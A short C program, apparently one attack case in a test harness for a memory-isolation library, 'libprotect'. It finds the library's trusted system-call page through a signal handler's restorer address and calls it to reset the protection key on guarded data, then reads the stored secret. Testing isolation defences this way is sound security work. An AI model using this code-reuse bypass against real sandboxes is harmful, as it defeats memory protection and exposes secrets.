/* Code reuse into libprotect's trusted system-call page (the filter lets
 * every call from it through): found from the restorer of any handler
 * libprotect installed, called to give the library's data back key 0. */
#define _GNU_SOURCE
#include "attack.h"

#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
    vault_open();
    struct { void *handler; unsigned long flags; void *restorer; uint64_t mask; } k;
    syscall(SYS_rt_sigaction, SIGSEGV, NULL, &k, 8);
    if (!k.restorer)
        blocked("no restorer to follow");
    /* The page starts with long fn(long nr, long a0, ..., long a5). */
    long (*page_syscall)(long, long, long, long, long, long, long) = (void *)((uintptr_t)k.restorer & ~4095ul);
    struct vault_cell *c = vault_address(VAULT_DATA);
    long r = page_syscall(SYS_pkey_mprotect, (long)c & ~4095l, 4096, PROT_READ | PROT_WRITE, 0, 0, 0);
    if (r != 0) {
        char msg[64];
        snprintf(msg, sizeof msg, "pkey_mprotect through the page failed (%ld)", r);
        blocked(msg);
    }
    read_secret_at(VAULT_DATA, c->secret);
}
